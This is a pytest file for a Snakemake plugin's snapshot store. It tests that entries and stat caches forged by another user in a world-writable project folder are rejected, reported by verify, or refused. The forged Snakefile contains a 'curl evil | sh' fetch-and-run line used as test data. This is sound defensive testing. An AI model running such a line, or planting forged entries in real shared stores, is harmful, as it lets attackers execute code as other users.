"""Issue 15 item 3: an id is earned. A store entry replaced by whoever can write the store
(here ``nobody``, in a world-writable project folder) is never reused for a run, however
well its archive and record agree with each other, and ``verify`` names it; the caches that
let a pack skip reading are believed only when they are the user's own."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers.files import shared_folder
from helpers.snapshots import make_repo, pack_tree
from helpers.users import OrdinaryUser

from snakemake_executor_plugin_frozen.record.layout import Layout
from snakemake_executor_plugin_frozen.record.verify import verify
from snakemake_executor_plugin_frozen.snapshot.archive import read_manifest
from snakemake_executor_plugin_frozen.snapshot.archive_write import ArchiveWriter
from snakemake_executor_plugin_frozen.snapshot.entries import Entry
from snakemake_executor_plugin_frozen.snapshot.extraction import extract
from snakemake_executor_plugin_frozen.snapshot.hashing import file_sha256
from snakemake_executor_plugin_frozen.snapshot.manifest import record_bytes

GOOD = "rule all:\n    shell: 'echo honest'\n"
EVIL = "rule all:\n    shell: 'curl evil | sh'\n"


def _as_nobody(*argv: str) -> None:
    subprocess.run(["runuser", "-u", "nobody", "--", *argv], check=True)


def _forged_entry(tmp: Path, manifest: dict, files: dict[str, bytes]) -> tuple[Path, Path]:
    """An archive holding ``files`` under ``manifest`` and the record that agrees with it:
    what a forger writes with the snapshot writer itself."""
    entries = []
    for name, data in files.items():
        (tmp / name).write_bytes(data)
        st = os.stat(tmp / name)
        key = (st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_ino)
        entries.append(Entry(name, "file", len(data), False, "", str(tmp / name), key, ""))
    archive = tmp / "forged.tar.zst"
    writer = ArchiveWriter(archive, 3)
    for entry in entries:
        writer.add_file(entry)
    writer.close_members()
    body = json.dumps(manifest).encode()
    sha256, size = writer.finish(body)
    record = tmp / "forged.json"
    record.write_bytes(record_bytes(body.removesuffix(b"}") + b"\n}\n", sha256, size))
    for path in (archive, record):
        path.chmod(0o644)
    return archive, record


def _forgeries(tmp: Path, honest_manifest: dict) -> dict[str, tuple[Path, Path]]:
    """Two forgeries of an entry: the honest manifest over other content, and a manifest
    that lists the forged content (its hashes) under the honest id."""
    evil = EVIL.encode()
    relisted = dict(honest_manifest)
    relisted.pop("archive_sha256"), relisted.pop("archive_bytes")
    relisted["files"] = [
        {**f, "size": len(evil), "sha256": __import__("hashlib").sha256(evil).hexdigest()}
        for f in honest_manifest["files"]
    ]
    same_list = {k: v for k, v in honest_manifest.items() if not k.startswith("archive_")}
    out = {}
    for label, manifest in (("same list", same_list), ("relisted", relisted)):
        folder = tmp / label.replace(" ", "_")
        folder.mkdir(mode=0o755)
        out[label] = _forged_entry(folder, manifest, {"Snakefile": evil})
    return out


@pytest.fixture
def public_tmp() -> Iterator[Path]:
    """A folder every user reaches and may make folders in (pytest's own is root's only)."""
    with shared_folder("frozen-trust-store-", mode=0o1777) as path:
        yield path


@pytest.fixture
def shared_repo(public_tmp: Path) -> Path:
    """A project folder anyone may write, as a careless shared project folder is."""
    tmp_path = public_tmp
    repo = make_repo(tmp_path / "repo", {"Snakefile": GOOD})
    pack_tree(repo)
    for folder in (repo, repo / ".snakemake", repo / ".snakemake/frozen", _store(repo)):
        folder.chmod(0o777)
    return repo


def _store(repo: Path) -> Path:
    return repo / ".snakemake/frozen/snapshots"


def _plant(repo: Path, snapshot: str, archive: Path, record: Path) -> None:
    """``nobody`` replaces the entry of ``snapshot`` (a copy, then a rename over it)."""
    store = _store(repo)
    for source, name in ((archive, f"{snapshot}.tar.zst"), (record, f"{snapshot}.json")):
        _as_nobody("cp", str(source), str(store / f".{name}.new"))
        _as_nobody("mv", "-f", str(store / f".{name}.new"), str(store / name))


@pytest.mark.parametrize("forgery", ["same list", "relisted"])
def test_a_forged_store_entry_is_made_again_not_run(
    shared_repo: Path, public_tmp: Path, forgery: str
) -> None:
    tmp_path = public_tmp
    honest = pack_tree(shared_repo)
    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())[forgery]
    _plant(shared_repo, honest.id, archive, record)
    assert os.stat(honest.archive).st_uid != os.geteuid()

    again = pack_tree(shared_repo)
    assert again.id == honest.id and again.created  # not "already stored"
    assert any("did not hold this tree's code" in w for w in again.warnings), again.warnings
    assert os.stat(again.archive).st_uid == os.geteuid()
    extract(again.archive, tmp_path / "job", again.archive_sha256)
    assert (tmp_path / "job/Snakefile").read_text() == GOOD


def test_verify_names_an_entry_whose_files_do_not_have_its_id(
    shared_repo: Path, public_tmp: Path
) -> None:
    tmp_path = public_tmp
    honest = pack_tree(shared_repo)
    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())["relisted"]
    _plant(shared_repo, honest.id, archive, record)
    report = verify(Layout.of(shared_repo), [])
    problems = [d.problem for d in report.damaged]
    assert not report.ok
    assert any("do not have its id" in p for p in problems), problems


def test_a_cache_written_by_another_user_vouches_for_nothing(
    shared_repo: Path, public_tmp: Path
) -> None:
    """``nobody`` forges the entry AND the cache that says it was found intact with the
    forged files' stat: the cache is not the packer's own, so the archive is read."""
    tmp_path = public_tmp
    honest = pack_tree(shared_repo)
    archive, record = _forgeries(tmp_path, read_manifest(honest.manifest).as_json())["same list"]
    _plant(shared_repo, honest.id, archive, record)
    store = _store(shared_repo)
    (check,) = store.glob("statcache-*.archive.json")
    known = json.loads(check.read_text())
    keys = []
    for path in (honest.archive, honest.manifest):
        st = os.stat(path)
        keys.append([st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_ino])
    forged = {**known, "keys": keys, "archive_sha256": file_sha256(honest.archive)}
    forged["archive_bytes"] = honest.archive.stat().st_size
    spool = tmp_path / "check.json"
    spool.write_text(json.dumps(forged))
    spool.chmod(0o644)
    _as_nobody("cp", str(spool), str(store / ".check.new"))
    _as_nobody("mv", "-f", str(store / ".check.new"), str(check))

    again = pack_tree(shared_repo)
    assert again.created and any("did not hold this tree's code" in w for w in again.warnings)


def test_an_entry_the_packer_cannot_replace_is_a_clear_refusal(
    ordinary_user: OrdinaryUser, public_tmp: Path
) -> None:
    """The owner is an ordinary user; in a sticky store (1777) it may not remove
    ``nobody``'s forged files: packing stops with a message naming the file and what to do."""
    tmp_path = public_tmp
    repo = tmp_path / "sticky"
    frozen = [str(ordinary_user.account.venv / "bin/snakemake-frozen"), "pack", str(repo)]
    ordinary_user.run("mkdir", "-m", "755", "--", str(repo))
    ordinary_user.run("sh", "-c", f'printf %s "$1" > {repo}/Snakefile', "-", GOOD)
    ordinary_user.run(*frozen)
    store = _store(repo)
    (archive_path,) = store.glob("*.tar.zst")
    honest_id = archive_path.name.removesuffix(".tar.zst")
    manifest = read_manifest(store / f"{honest_id}.json").as_json()
    archive, record = _forgeries(tmp_path, manifest)["same list"]
    # A shared store: a sticky folder of another owner (as a project folder set up by its
    # administrator). The sticky bit keeps nobody from replacing the owner's entry: it
    # plants one for an id the owner will reach (here: the same code, its entry removed).
    os.chown(store, 0, 0)
    store.chmod(0o1777)
    ordinary_user.run("rm", str(archive_path), str(store / f"{honest_id}.json"))
    _plant(repo, honest_id, archive, record)

    result = ordinary_user.run(*frozen, check=False)
    assert result.returncode != 0
    assert "does not hold this tree's code" in result.stderr, result.stderr
    assert str(archive_path) in result.stderr and "remove it" in result.stderr


def test_an_archive_being_written_is_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The archive is written to a temporary file in the store before its final mode is
    set: meanwhile nobody else may read it (it may hold a 0600 file), whatever the umask."""
    repo = make_repo(tmp_path / "repo", {"Snakefile": GOOD, "secret_config.py": "k = 1\n"})
    (repo / "secret_config.py").chmod(0o600)
    seen = []
    real = ArchiveWriter.finish

    def finish(self: ArchiveWriter, manifest: bytes) -> tuple[str, int]:
        result = real(self, manifest)
        seen.append(os.stat(self._path).st_mode & 0o777)
        return result

    monkeypatch.setattr(ArchiveWriter, "finish", finish)
    old = os.umask(0o022)
    try:
        pack_tree(repo)
    finally:
        os.umask(old)
    assert seen == [0o600]
